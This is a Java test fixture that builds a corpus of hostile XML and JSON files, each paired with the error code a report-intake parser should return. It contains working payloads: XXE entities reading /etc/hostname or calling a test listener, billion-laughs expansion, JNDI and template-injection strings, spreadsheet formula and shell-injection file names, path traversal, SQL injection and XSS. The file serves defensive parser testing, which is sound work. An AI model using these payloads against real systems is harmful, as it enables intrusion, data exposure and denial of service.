package no.rapportmottak.hub;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Files that mean harm, each with the code that has to answer it. What they want fetched lies at an address where a
 * test listens.
 */
public final class HostileFiles {

    /** @param code of the finding that answers it; empty where the report is sound and only its values are odd */
    public record HostileFile(String what, byte[] content, String code) {

        @Override
        public String toString() {
            return what;
        }
    }

    /** Names that are paths, expressions, devices or twins somewhere; those that a folder can hold. */
    public static final List<String> NAMES = List.of(
            "a..xml", "x\\..\\..\\windows.xml", "C:\\rapport.xml", "con.xml", "NUL", "aux.json", "lpt1.xml",
            "linje\nskift.xml", "retur\r.xml", "bjelle\u0007.xml", "${jndi:ldap:x}.xml", "#{7*7}.xml", "${7*7}.json",
            "{{7*7}}.xml", "<script>alert(1)<.xml", "a;rm -rf x.xml", "-rf.xml", "$(id).xml", "`id`.xml", "%2e%2e%2f.xml",
            "rapport\u202Elmx.exe", "\u200Bskjult.xml", "\u00e5r.xml", "a\u030ar.xml", "=cmd|' C calc'!A0.xml",
            "x".repeat(251) + ".xml", "\u00e6".repeat(125) + ".xml", "Bcc: en@andre.invalid.xml", "CamelFileName.xml");

    private static final Path SAMPLES = Path.of("schemas/tilskuddsrapport/v1/samples/valid");
    private static final String SAMPLE = "tilskuddsrapport-rusarbeid-alt-overfoert";
    private static final String TEXT = "Stillingene er lyst ut, men ble ikke besatt i 2023.";
    private static final String NAMESPACE = "xmlns=\"urn:rapportmottak:tilskuddsrapport:v1\"";
    private static final String XSI = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"";

    private final List<HostileFile> files = new ArrayList<>();
    private final String xml = sample(".xml");
    private final String json = sample(".json");
    private final String address;

    private HostileFiles(String address) {
        this.address = address;
    }

    /** @param address of a listener, as host and port */
    public static List<HostileFile> at(String address) {
        HostileFiles corpus = new HostileFiles(address);
        corpus.entities();
        corpus.otherWaysOutOfXml();
        corpus.blowUps();
        corpus.encodings();
        corpus.characters();
        corpus.malformed();
        corpus.jsonOfItsOwn();
        corpus.expressions();
        return List.copyOf(corpus.files);
    }

    private void entities() {
        for (String target : targets()) {
            addXml("general entity from " + target, doctype("<!ENTITY x SYSTEM \"" + target + "\">", "&x;"), "MOT-006");
            addXml("parameter entity from " + target,
                    doctype("<!ENTITY % x SYSTEM \"" + target + "\"> %x;", "a"), "MOT-006");
            addXml("document type from " + target,
                    xml.replaceFirst("<tilskudds", "<!DOCTYPE tilskuddsrapport SYSTEM \"" + target + "\"><tilskudds"), "MOT-006");
        }
        addXml("public document type", xml.replaceFirst("<tilskudds",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://" + address + "/x.dtd\"><tilskudds"), "MOT-006");
        String laughs = IntStream.range(1, 30)
                .mapToObj(i -> "<!ENTITY l" + i + " \"" + ("&l" + (i - 1) + ";").repeat(10) + "\">")
                .collect(Collectors.joining("", "<!ENTITY l0 \"ha\">", ""));
        addXml("a billion laughs", doctype(laughs, "&l29;"), "MOT-006");
        addXml("a long entity many times",
                doctype("<!ENTITY a \"" + "a".repeat(50_000) + "\">", "&a;".repeat(50_000)), "MOT-006");
        addXml("an entity that nobody declared", xml.replace(TEXT, "&nbsp;"), "MOT-019");
        addXml("an entity that nobody declared, in an attribute",
                xml.replace("<merknad>", "<merknad a=\"&nbsp;\">"), "SKJ-010");
    }

    private List<String> targets() {
        return List.of("file:///etc/hostname", "http://" + address + "/x", "ftp://" + address + "/x",
                "jar:http://" + address + "/x.jar!/x", "netdoc:///etc/hostname");
    }

    private String doctype(String declarations, String use) {
        return xml.replaceFirst("<tilskudds", "<!DOCTYPE tilskuddsrapport [" + declarations + "]><tilskudds")
                .replace(TEXT, use);
    }

    private void otherWaysOutOfXml() {
        String include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://" + address + "/x\"/>";
        addXml("XInclude in a group", xml.replace("<kontakt>", include + "<kontakt>"), "SKJ-002");
        addXml("XInclude in a text", xml.replace(TEXT, include), "SKJ-003");
        addXml("a style sheet",
                xml.replaceFirst("<tilskudds", "<?xml-stylesheet href=\"http://" + address + "/x.xsl\"?><tilskudds"), "MOT-020");
        addXml("an instruction within", xml.replace(TEXT, "<?php system('id') ?>"), "MOT-020");
        addXml("an instruction after", xml + "<?x y?>", "MOT-020");
        addXml("a schema elsewhere", onRoot(XSI + " xsi:schemaLocation=\"urn:rapportmottak:tilskuddsrapport:v1 http://"
                + address + "/x.xsd\""), "MOT-024");
        addXml("a schema elsewhere without namespace",
                onRoot(XSI + " xsi:noNamespaceSchemaLocation=\"http://" + address + "/x.xsd\""), "MOT-024");
        addXml("another type", xml.replace("<merknad>", "<merknad " + XSI + " xsi:type=\"y\">"), "SKJ-010");
        addXml("a text that is nil", xml.replace("<merknad>", "<merknad " + XSI + " xsi:nil=\"true\">"), "SKJ-010");
        addXml("an attribute", xml.replace("<merknad>", "<merknad onload=\"alert(1)\">"), "SKJ-010");
        addXml("a drawing", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "MOT-011");
        addXml("a style sheet as the document", "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
                + "version=\"1.0\"><xsl:include href=\"http://" + address + "/x\"/></xsl:stylesheet>", "MOT-011");
        addXml("a schema as the document", "<schema xmlns=\"http://www.w3.org/2001/XMLSchema\"><import "
                + "schemaLocation=\"http://" + address + "/x\"/></schema>", "MOT-011");
    }

    private String onRoot(String attributes) {
        return xml.replace(NAMESPACE, NAMESPACE + " " + attributes);
    }

    private void blowUps() {
        addXml("a hundred thousand attributes", onRoot(many(100_000, i -> " a" + i + "=\"x\"")), "MOT-027");
        addXml("a hundred thousand namespaces", onRoot(many(100_000, i -> " xmlns:a" + i + "=\"x\"")), "MOT-027");
        addXml("an attribute of a million characters", onRoot("a=\"" + "x".repeat(1_000_000) + "\""), "MOT-018");
        addXml("a hundred thousand levels of XML", "<tilskuddsrapport " + NAMESPACE + ">" + "<a>".repeat(100_000), "MOT-012");
        addXml("very many elements", "<tilskuddsrapport " + NAMESPACE + ">" + "<a/>".repeat(260_000) + "</tilskuddsrapport>",
                "MOT-027");
        addXml("an element's name of a million characters",
                "<tilskuddsrapport " + NAMESPACE + "><" + "x".repeat(1_000_000) + "/></tilskuddsrapport>", "MOT-017");
        addXml("an amount of a million digits", xml.replaceFirst(">2480000<", ">" + "9".repeat(990_000) + "<"), "MOT-016");
        addXml("a reference of a million characters",
                xml.replace("rusarbeid-alt-overfoert-x", "x".repeat(990_000)), "SKJ-006");
        addXml("a text of more than a million characters", xml.replace(TEXT, "x".repeat(1_000_100)), "MOT-018");
        addJson("a hundred thousand objects in each other", "{\"a\":".repeat(100_000), "MOT-012");
        addJson("a hundred thousand lists in each other",
                "{\"skjema\":\"tilskuddsrapport/v1\",\"a\":" + "[".repeat(100_000), "MOT-012");
        addJson("very many elements", "{\"skjema\":\"tilskuddsrapport/v1\",\"maal\":[" + "1,".repeat(260_000) + "1]}", "MOT-027");
        addJson("very many fields", "{\"skjema\":\"tilskuddsrapport/v1\"" + many(30_000, i -> ",\"k" + i + "\":1") + "}",
                "MOT-026");
        addJson("an amount of a million digits", json.replaceFirst(": 2480000", ": " + "9".repeat(1_000_000)), "MOT-016");
        addJson("an amount of a vast power", json.replaceFirst(": 2480000", ": 1e999999999"), "SKJ-003");
        addJson("a vast power for a text", json.replace("\"" + TEXT + "\"", "1e999999999"), "MOT-016");
        addJson("a power of more digits than a power has, for a text",
                json.replace("\"" + TEXT + "\"", "1e999919650377"), "MOT-016");
        for (String number : new String[] {"1e1000000", "1e50000000", "1e-300000000", "-1e2147483647"}) {
            addJson("a number that is far too long written out, " + number,
                    json.replace("\"" + TEXT + "\"", number), "MOT-016");
        }
        addJson("a control character in what it says it is",
                json.replaceFirst("\"skjema\": *\"[^\"]*", "\"skjema\": \"tilskuddsrapport/v1\\\\u009b"), "MOT-013");
        addXml("a control character in its namespace", xml.replaceFirst("xmlns=\"[^\"]*", "xmlns=\"urn:&#x9b;x"), "MOT-013");
        addJson("a name of a million characters", json.replace("\"spraak\"", "\"" + "x".repeat(1_000_000) + "\""), "MOT-017");
        addJson("a text of more than a million characters", json.replace(TEXT, "x".repeat(1_000_100)), "MOT-018");
        addJson("a reference of a million characters",
                json.replace("rusarbeid-alt-overfoert-j", "x".repeat(990_000)), "SKJ-006");
        addXml("a letter of very many accents", xml.replace(TEXT, "e" + "\u0301\u0316".repeat(5_000)), "MOT-022");
        addJson("a letter of very many accents, as escapes", json.replace(TEXT, "e" + "\\u0301".repeat(5_000)), "MOT-022");
    }

    private void encodings() {
        for (Charset charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE, StandardCharsets.UTF_16,
                Charset.forName("UTF-32LE"), Charset.forName("UTF-32BE"), ISO_8859_1, Charset.forName("IBM037"))) {
            add("XML in " + charset, xml.replace("UTF-8", charset.name()).getBytes(charset), "MOT-004");
            add("JSON in " + charset, json.getBytes(charset), charset.name().equals("IBM037") ? "" : "MOT-004");
        }
        addXml("XML that says UTF-7", xml.replace("UTF-8", "UTF-7"), "MOT-004");
        addXml("XML that says UTF-16", xml.replace("UTF-8", "UTF-16"), "MOT-004");
        addXml("XML that says an encoding that there is not", xml.replace("UTF-8", "x-ingen"), "MOT-004");
        add("XML in UTF-7", "+ADw-tilskuddsrapport/+AD4-".getBytes(UTF_8), "MOT-004");
        add("JSON in UTF-7", "+AHs-+ACI-skjema".getBytes(UTF_8), "MOT-004");
        add("an overlong slash", within(xml, 0xC0, 0xAF), "MOT-004");
        add("an overlong NUL", within(json, 0xC0, 0x80), "MOT-004");
        add("an overlong bracket of three bytes", within(xml, 0xE0, 0x80, 0xBC), "MOT-004");
        add("a lone surrogate in bytes", within(json, 0xED, 0xA0, 0x80), "MOT-004");
        add("a character beyond Unicode", within(xml, 0xF4, 0x90, 0x80, 0x80), "MOT-004");
        add("half a character at the end", concat(xml.getBytes(UTF_8), new byte[] {(byte) 0xC3}), "MOT-004");
        addJson("JSON with a byte order mark", "\uFEFF" + json, "MOT-023");
        addXml("XML with a byte order mark", "\uFEFF" + xml, "");
        addJson("JSON with two byte order marks", "\uFEFF\uFEFF" + json, "MOT-010");
        addXml("a byte order mark within", xml.replace(TEXT, "a\uFEFFb"), "MOT-013");
    }

    private void characters() {
        for (int c : new int[] {0, 1, 7, 8, 0x0B, 0x0C, 0x1B, 0x1F, 0x7F, 0x9B, 0xFDD0, 0xFFFE, 0xFFFF}) {
            String name = "character U+%04X ".formatted(c);
            addXml(name + "in XML", xml.replace(TEXT, "a" + (char) c), "MOT-013");
            addJson(name + "in JSON", json.replace(TEXT, "a" + (char) c), "MOT-013");
            addJson(name + "as an escape", json.replace(TEXT, "a\\u%04x".formatted(c)), "MOT-013");
            addXml(name + "as a reference", xml.replace(TEXT, "a&#" + c + ";"), "MOT-013");
        }
        addJson("a lone high surrogate", json.replace(TEXT, "\\ud800"), "MOT-013");
        addJson("a lone low surrogate", json.replace(TEXT, "\\udc00a"), "MOT-013");
        addXml("a surrogate as a reference", xml.replace(TEXT, "&#xD800;"), "MOT-013");
        addXml("a reference beyond Unicode", xml.replace(TEXT, "&#x110000;"), "MOT-013");
        addJson("a control character in a name", json.replace("\"spraak\"", "\"spra\\u0000ak\""), "MOT-013");
        for (int c : new int[] {0x202A, 0x202D, 0x202E, 0x2066, 0x2069}) {
            String name = "direction U+%04X ".formatted(c);
            addXml(name + "in XML", xml.replace(TEXT, "a" + (char) c + "b"), "MOT-021");
            addXml(name + "as a reference", xml.replace(TEXT, "a&#" + c + ";b"), "MOT-021");
            addJson(name + "in JSON", json.replace(TEXT, "a" + (char) c + "b"), "MOT-021");
            addJson(name + "as an escape", json.replace(TEXT, "a\\u%04xb".formatted(c)), "MOT-021");
        }
        addXml("a direction in a comment", xml.replace("<kontakt>", "<!-- \u202e --><kontakt>"), "MOT-021");
        addXml("a direction in an attribute", xml.replace("<merknad>", "<merknad a=\"&#x202e;\">"), "MOT-021");
    }

    private void malformed() {
        add("nothing", new byte[0], "MOT-005");
        add("blanks", " \n\t ".getBytes(UTF_8), "MOT-005");
        addXml("half an XML", xml.substring(0, xml.length() / 2), "MOT-007");
        addXml("two documents", xml + xml.substring(xml.indexOf("<tilskudds")), "MOT-007");
        addXml("text after the end", xml + "mer", "MOT-007");
        addXml("crossing tags", xml.replace("</merknad>", "</tekst>"), "MOT-007");
        addXml("a lone ampersand", xml.replace(TEXT, "a & b"), "MOT-007");
        addXml("a prefix without namespace", xml.replace("<merknad>", "<x:merknad>"), "MOT-007");
        addXml("the same attribute twice", onRoot("a=\"1\" a=\"2\""), "MOT-007");
        addXml("XML 1.1", xml.replace("version=\"1.0\"", "version=\"1.1\""), "MOT-007");
        addXml("a comment with hyphens", xml.replace("<kontakt>", "<!-- a -- b --><kontakt>"), "MOT-007");
        addXml("a comment without end", xml + "<!-- ", "MOT-007");
        addXml("CDATA without end", xml.replace(TEXT, "<![CDATA["), "MOT-007");
        addXml("CDATA", xml.replace(TEXT, "<![CDATA[<script>alert(1)</script>]]>"), "");
        addXml("a group in a text", xml.replace(TEXT, "<a/>"), "SKJ-003");
        addXml("a text in a group", xml.replace("<kontakt>", "<kontakt>hei"), "SKJ-010");
        add("a zip", "PK\u0003\u0004\u0014\u0000\u0000".getBytes(ISO_8859_1), "MOT-010");
        add("a PDF", "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3".getBytes(ISO_8859_1), "MOT-004");
        add("a shell script", "#!/bin/sh\nid\n".getBytes(UTF_8), "MOT-010");
        byte[] noise = new byte[10_000];
        new Random(7).nextBytes(noise);
        add("noise", noise, "MOT-004");
    }

    private void jsonOfItsOwn() {
        addJson("the same name twice", json.replace("\"spraak\": \"nb\"", "\"spraak\": \"nb\", \"spraak\": \"nn\""), "MOT-009");
        addJson("the same name twice, once as escapes",
                json.replace("\"spraak\": \"nb\"", "\"spraak\": \"nb\", \"\\u0073praak\": \"nn\""), "MOT-009");
        addJson("the type twice", json.replaceFirst("\\{", "{\"skjema\": \"tilskuddsrapport/v1\", "), "MOT-009");
        for (String wrong : List.of("NaN", "Infinity", "-Infinity", "+1", "01", "0x1F", ".5", "1.", "1e", "--1", "undefined",
                "'a'", "TRUE", "\"a\tb\"", "\"a\nb\"", "\"\\x41\"", "\"\\u12\"", "\"a", "[1}", "{a: 1}", "/* a */ 1", "// a\n 1",
                "# a\n 1", ",", "")) {
            addJson("the value " + wrong.replace("\n", "\\n"), json.replaceFirst(": 2480000", ": " + escaped(wrong)), "MOT-008");
        }
        addJson("a comma too many", json.replace("\"spraak\": \"nb\",", "\"spraak\": \"nb\",,"), "MOT-008");
        addJson("half a JSON", json.substring(0, json.length() / 2), "MOT-008");
        addJson("something after the end", json + "{}", "MOT-008");
        addJson("a second document", json + json, "MOT-008");
        addJson("a list", "[" + json + "]", "MOT-010");
        addJson("a text", "\"rapport\"", "MOT-010");
        addJson("no type", "{}", "MOT-011");
        addJson("a type that is a group", "{\"skjema\": {\"a\": 1}}", "MOT-011");
        addJson("a type that is a path", "{\"skjema\": \"../../../etc/v1\"}", "MOT-011");
        addJson("a schema elsewhere", json.replaceFirst("\\{", "{\"\\$schema\": \"http://" + address + "/x\", "), "SKJ-002");
        addJson("a reference elsewhere", json.replaceFirst("\\{", "{\"\\$ref\": \"http://" + address + "/x\", "), "SKJ-002");
        addJson("a class", json.replaceFirst("\\{", "{\"@class\": \"java.net.URL\", "), "SKJ-002");
        addJson("a prototype", json.replaceFirst("\\{", "{\"__proto__\": {\"a\": 1}, "), "SKJ-002");
        addJson("a class for a text", json.replace("\"" + TEXT + "\"", "[\"java.net.URL\", \"http://" + address + "\"]"), "SKJ-003");
    }

    /** Values that mean something to a template, a shell, a log, a mail or a spreadsheet. */
    private void expressions() {
        for (String value : List.of("${jndi:ldap://" + address + "/a}", "${7*7}", "#{7*7}", "${{7*7}}", "[[${7*7}]]",
                "*{7*7}", "@{/}", "__${7*7}__::.x", "${bean:ledger?method=close}", "${file:/etc/hostname}", "{{7*7}}",
                "=HYPERLINK(\\\"http://" + address + "\\\")", "+cmd|' /C calc'!A0", "@SUM(1)", "%n%s%x", "../../../../etc/passwd",
                "'; drop table submission; --", "javascript:alert(1)", "|id", "Bcc: alle@andre.invalid")) {
            addJson("the text " + value, json.replace(TEXT, value), "");
            addXml("the text " + value, xml.replace(TEXT, value.replace("\\\"", "\"").replace("&", "&amp;")), "");
            addJson("the type " + value, "{\"skjema\": \"" + value + "\"}", "MOT-011");
        }
        for (String value : List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\\\"><svg onload=alert(1)>",
                "</script><b>")) {
            addJson("the text " + value, json.replace(TEXT, value), "");
            addJson("the type " + value, "{\"skjema\": \"" + value + "\"}", "MOT-011");
            addJson("the field " + value, json.replaceFirst("\"spraak\"", escaped("\"" + value + "\"")), "SKJ-002");
        }
        addXml("a root that is a script", "<script xmlns=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/>", "MOT-011");
    }

    private static String escaped(String replacement) {
        return replacement.replace("\\", "\\\\").replace("$", "\\$");
    }

    private static String many(int count, IntFunction<String> part) {
        return IntStream.range(0, count).mapToObj(part).collect(Collectors.joining());
    }

    private static byte[] within(String document, int... bytes) {
        byte[] raw = new byte[bytes.length];
        for (int i = 0; i < bytes.length; i++) {
            raw[i] = (byte) bytes[i];
        }
        int at = document.indexOf(TEXT);
        return concat(document.substring(0, at).getBytes(UTF_8), raw, document.substring(at).getBytes(UTF_8));
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private void addXml(String what, String document, String code) {
        add("XML: " + what, document.getBytes(UTF_8), code);
    }

    private void addJson(String what, String document, String code) {
        add("JSON: " + what, document.getBytes(UTF_8), code);
    }

    private void add(String what, byte[] content, String code) {
        files.add(new HostileFile(what, content, code));
    }

    private static String sample(String ending) {
        try {
            return Files.readString(SAMPLES.resolve(SAMPLE + ending));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
